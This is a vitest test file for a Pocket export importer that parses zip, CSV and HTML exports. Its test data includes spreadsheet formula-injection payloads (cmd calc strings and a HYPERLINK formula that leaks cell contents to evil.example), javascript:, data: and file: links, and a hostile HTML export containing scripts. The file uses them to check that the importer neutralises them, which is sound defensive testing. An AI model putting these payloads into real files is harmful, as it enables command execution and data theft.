import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { parsePocketCsv, parsePocketHtml, parsePocketZip } from '../../../utils/import/pocket';
import { fixtureBytes, fixtureText, refusal, report } from './helpers';

describe('Pocket zip (part_000000.csv, part_000001.csv)', () => {
  const r = report(parsePocketZip(fixtureBytes('pocket-export.zip')));

  it('reads every row of every part, in part order', () => {
    expect(r.format).toBe('pocket-zip');
    expect(r.items).toHaveLength(8);
    expect(r.skipped).toEqual([]);
    expect(r.items.map((i) => i.source)).toEqual(Array(8).fill('pocket'));
    expect(r.items[0]!.url).toBe('https://jackcheng.com/the-slow-web/');
    expect(r.items[5]!.url).toBe('https://www.lemonde.fr/pixels/article/2024/02/01/ia-journalisme_6214402_4408996.html');
  });

  it('keeps title, time_added (seconds → ms), | tags and status', () => {
    expect(r.items[1]).toMatchObject({
      title: "Why We Sleep, and Why We Often Can't",
      savedAt: 1699900800_000,
      tags: ['science', 'health'],
      status: 'archived',
      favourite: false,
      contentHtml: null,
    });
    expect(r.items[2]).toMatchObject({ title: 'Die "Energiewende" in Zahlen', tags: ['Wirtschaft', 'Ökologie'], status: 'unread' });
    expect(r.items[3]!.tags).toEqual([]);
    expect(r.items[4]!.tags).toEqual(['long reads', 'to share']);
    expect(r.items[6]).toMatchObject({ title: '東京の古い喫茶店', tags: ['日本'], status: 'archived' });
  });

  it('leaves an untitled item without a title (the writer shows its URL)', () => {
    expect(r.items[7]).toMatchObject({ url: 'https://example.com/an-item-pocket-never-titled', title: null });
  });

  it('sorts parts by number, whatever the zip order, and names rows by part', () => {
    const header = 'title,url,time_added,cursor,tags,status\n';
    const zip = zipSync({
      'part_000010.csv': strToU8(`${header}Ten,https://example.com/10,1700000000,1,,unread\n`),
      'part_000002.csv': strToU8(`${header}Two,https://example.com/2,1700000000,1,,unread\nBad,javascript:void(0),1700000000,2,,unread\n`),
      'annotations/part_000000.json': strToU8('[]'),
    });
    const parsed = report(parsePocketZip(zip));
    expect(parsed.items.map((i) => i.title)).toEqual(['Two', 'Ten']);
    expect(parsed.skipped).toEqual([{ row: 'part_000002.csv row 3', reason: expect.stringContaining('javascript:') }]);
  });

  it('refuses a zip without parts, and a part without Pocket columns', () => {
    expect(refusal(parsePocketZip(zipSync({ 'notes.txt': strToU8('hi') }))).code).toBe('wrong-format');
    const error = refusal(parsePocketZip(zipSync({ 'part_000000.csv': strToU8('a,b\n1,2\n') })));
    expect(error).toMatchObject({ code: 'bad-shape', message: expect.stringContaining('part_000000.csv') });
  });
});

describe('Pocket CSV on its own', () => {
  it('reads the 2024 columns (no cursor) with CRLF line ends', () => {
    const r = report(parsePocketCsv(fixtureText('pocket-2024.csv')));
    expect(r.format).toBe('pocket-csv');
    expect(r.items.map((i) => [i.title, i.status, i.tags])).toEqual([
      ['You Might Not Need jQuery', 'unread', []],
      ['Avec les accusés d’El Halia, par Gisèle Halimi', 'unread', ['histoire', 'france']],
      ['ArchiveBox question: How do I import links from a RSS feed?', 'archived', ['selfhosting']],
    ]);
    expect(r.items[0]!.savedAt).toBe(1600322788_000);
  });

  it('skips bad rows with their row number and reason, and imports the rest', () => {
    const r = report(parsePocketCsv(fixtureText('hostile/pocket-bad-rows.csv')));
    expect(r.items.map((i) => i.url)).toEqual([
      'https://example.com/fine?utm_source=pocket_saves',
      'https://example.com/future',
      'https://example.com/not-a-date',
    ]);
    expect(r.skipped.map((s) => s.row)).toEqual([3, 4, 5, 6, 10, 11]);
    const reason = (row: number) => r.skipped.find((s) => s.row === row)?.reason;
    expect(reason(3)).toMatch(/javascript: link/);
    expect(reason(4)).toMatch(/data: link/);
    expect(reason(5)).toMatch(/file: link/);
    expect(reason(6)).toMatch(/not a web address/);
    expect(reason(10)).toMatch(/2 fields where the header has 6/);
    expect(reason(11)).toMatch(/never closed/);
  });

  it('merges a repeated URL (same canonical URL) into the first row, tags unioned, and reports it', () => {
    const r = report(parsePocketCsv(fixtureText('hostile/pocket-bad-rows.csv')));
    expect(r.items[0]).toMatchObject({ tags: ['a', 'b', 'C'], status: 'unread', title: 'A fine article' });
    expect(r.duplicates).toEqual([{ row: 7, into: 2, url: 'https://example.com/fine#comments' }]);
    expect(r.warnings.join(' ')).toMatch(/1 entry repeats an address/);
  });

  it('turns implausible and unreadable dates into null', () => {
    const r = report(parsePocketCsv(fixtureText('hostile/pocket-bad-rows.csv')));
    expect(r.items[1]!.savedAt).toBeNull();
    expect(r.items[2]!.savedAt).toBeNull();
  });

  it('strips formula prefixes from titles and tags and says so; keeps "-10 °C" and "@dril"', () => {
    const r = report(parsePocketCsv(fixtureText('hostile/pocket-formulas.csv')));
    expect(r.items.map((i) => i.title)).toEqual([
      "cmd|' /C calc'!A0",
      "SUM(1,2)*cmd|' /C calc'!A0",
      "2+3+cmd|' /C calc'!A0",
      "SUM(1+9)*cmd|' /C calc'!A0",
      'HYPERLINK("https://evil.example/?leak="&A1,"Click")',
      '-10 °C in Oslo tonight',
      "@dril's best posts",
    ]);
    expect(r.items[4]!.tags).toEqual(['news', '1+1']);
    expect(r.items.every((i) => !/^[=+\-@]/.test(i.title ?? '') || i.title === '-10 °C in Oslo tonight' || i.title === "@dril's best posts")).toBe(true);
    expect(r.warnings).toContainEqual(expect.stringMatching(/^5 rows had cells starting like spreadsheet formulas .*row 2, 3, 4, 5, 6\)/));
  });

  it('refuses a CSV with other columns, naming them', () => {
    const error = refusal(parsePocketCsv(fixtureText('hostile/wrong-columns.csv')));
    expect(error.code).toBe('bad-shape');
    expect(error.message).toMatch(/title,url,time_added,cursor,tags,status.*id,title,note/);
  });
});

describe('Pocket ril_export.html', () => {
  it('reads Unread as unread and Read Archive as archived, with time_added and comma tags', () => {
    const r = report(parsePocketHtml(fixtureText('ril_export.html')));
    expect(r.format).toBe('pocket-html');
    expect(r.items.map((i) => [i.status, i.title])).toEqual([
      ['unread', 'Tarn : Des lapins ravagent le terrain, le match de rugby doit être annulé'],
      ['unread', 'Heatwaves: How hot is too hot for the human body?'],
      ['unread', 'Pocket (service) - Wikipedia'],
      ['archived', 'Le journaliste et cinéaste Claude Lanzmann est mort'],
      ['archived', 'How to Do Great Work'],
    ]);
    expect(r.items[0]).toMatchObject({ savedAt: 1688628695_000, tags: ['ifttt', 'new_entry_simple'] });
    expect(r.items[4]!.tags).toEqual(['essays', 'career']);
  });

  it('parses a hostile export inertly: no script, handler or javascript: link runs or is imported', () => {
    const r = report(parsePocketHtml(fixtureText('hostile/ril_export-scripts.html')));
    expect((globalThis as { __importPwned?: unknown }).__importPwned).toBeUndefined();
    expect(r.items.map((i) => [i.url, i.status, i.savedAt])).toEqual([
      ['https://example.com/ok', 'unread', 1700000000_000],
      ['https://example.com/img', 'unread', null],
      ['https://example.com/archived', 'archived', 1700000002_000],
    ]);
    expect(r.skipped).toEqual([{ row: 2, reason: expect.stringContaining('javascript:') }]);
  });

  it('says so where there is no HTML parser (a service worker)', () => {
    const saved = globalThis.DOMParser;
    // @ts-expect-error -- simulating a context without DOMParser
    delete globalThis.DOMParser;
    try {
      expect(refusal(parsePocketHtml(fixtureText('ril_export.html'))).code).toBe('no-html-parser');
    } finally {
      globalThis.DOMParser = saved;
    }
  });
});
